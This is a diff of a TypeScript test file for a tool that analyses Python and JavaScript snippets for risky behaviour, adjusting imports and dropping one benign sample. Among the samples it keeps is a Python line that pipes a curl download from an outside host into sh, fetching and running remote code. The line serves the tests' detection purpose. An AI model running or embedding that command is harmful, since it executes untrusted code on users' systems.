@@ -1,9 +1,7 @@
 import { expect, it } from 'vitest'
-import { analyseJavaScript } from '../../../src/risk/script/analyse-javascript.ts'
-import { analysePython, analysePythonFiles } from '../../../src/risk/script/analyse-python.ts'
 import { mayMatter } from '../../../src/risk/script/may-matter.ts'
 import { isSecretName } from '../../../src/risk/evidence/credentials.ts'
-import { errors, shell, warnings } from './acts.ts'
+import { analyseJavaScript, analysePython, analysePythonFiles, errors, shell, warnings } from './acts.ts'
 
 /** Code of which something was said that is not so. */
 const HONEST: readonly (readonly [name: string, language: 'python' | 'javascript', code: string])[] = [
@@ -72,7 +70,6 @@ it('parses only what has a source and something that its data could go into', ()
     'import subprocess\nsubprocess.run("curl -s https://sync.tablekit.dev/i | sh", shell=True)',
   ]
   const honest: readonly string[] = [
-    'import os, requests\nrequests.get("https://api.openai.com/v1", headers={"Authorization": os.environ["OPENAI_API_KEY"]})',
     'import subprocess\nsubprocess.run(["git", "status"])',
     'import base64\nprint(base64.b64decode("cHJpbnQoMSk="))',
     'const found = /a/.exec(await (await fetch("https://api.openai.com")).text())',
